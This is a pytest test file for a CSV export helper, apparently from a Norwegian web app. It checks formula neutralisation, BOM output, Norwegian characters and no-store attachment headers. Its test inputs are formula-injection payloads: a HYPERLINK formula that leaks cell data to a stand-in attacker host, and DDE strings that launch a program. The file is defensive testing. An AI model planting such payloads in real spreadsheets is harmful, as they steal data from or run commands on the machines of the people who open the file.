import csv
import io

import pytest

from core.csv import BOM, csv_response


def cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")',
        "+47 912 34 567",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(value):
    [_, row] = cells(csv_response("x.csv", ["Navn"], [[value]]))
    assert row[0].startswith("'")


def test_plain_numbers_and_text_are_left_alone():
    [_, row] = cells(csv_response("x.csv", ["a", "b", "c", "d"], [[-3, "-1,5", 12, "Kari"]]))
    assert row == ["-3", "-1,5", "12", "Kari"]


def test_the_file_starts_with_the_byte_order_mark():
    assert csv_response("x.csv", ["Navn"], []).content.startswith(BOM.encode())


def test_norwegian_letters_come_back_as_written():
    [header, row] = cells(csv_response("x.csv", ["Årsak"], [["Øystein Åsmund Bæråsen"]]))
    assert (header, row) == (["Årsak"], ["Øystein Åsmund Bæråsen"])


def test_the_file_is_an_attachment_never_stored_by_browser_or_proxy():
    response = csv_response("mine-planer.csv", ["Navn"], [])
    assert response["Content-Disposition"] == 'attachment; filename="mine-planer.csv"'
    assert {"no-store", "private"} <= set(response["Cache-Control"].split(", "))
